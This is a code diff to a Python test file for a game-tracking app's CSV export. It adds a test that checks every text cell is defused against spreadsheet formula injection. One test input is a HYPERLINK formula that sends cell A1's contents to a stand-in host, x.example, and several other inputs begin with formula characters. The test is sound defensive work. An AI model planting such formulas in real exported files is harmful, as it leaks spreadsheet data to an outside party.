@@ -25,8 +25,8 @@ from companion.plays import new_state, replay, score_of
 START = dt.datetime(2024, 3, 9, 19, 5, tzinfo=dt.UTC)
 
 
-def a_play(names=("Ann", "Bo"), glories=(12, 14), finish=True):
-    initial = new_state("reavers", list(names), {}, "seed-1",
+def a_play(names=("Ann", "Bo"), glories=(12, 14), finish=True, seed="seed-1"):
+    initial = new_state("reavers", list(names), {}, seed,
                         get_game("reavers").empty_catalogue())
     events = [{"type": "sheet", "data": {"player": n, "fields": {"glory": g}}}
               for n, g in zip(names, glories, strict=True)]
@@ -64,6 +64,17 @@ def test_csv_has_one_row_per_player_and_every_scoring_row():
 def test_csv_defuses_names_a_spreadsheet_would_run_as_formulas():
     rows = list(csv.DictReader(io.StringIO(export_csv(a_play(names=("=SUM(A1)", "Bo"))))))
     assert rows[0]["player"] == "'=SUM(A1)"
+
+
+@pytest.mark.parametrize("seed", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1",
+                                  "@SUM(A1)", "-2+3"])
+def test_csv_defuses_every_text_cell_the_seed_too(seed):
+    text = export_csv(a_play(seed=seed))
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["seed"] == "'" + seed
 
 
 def test_bgstats_play_follows_the_documented_fields():
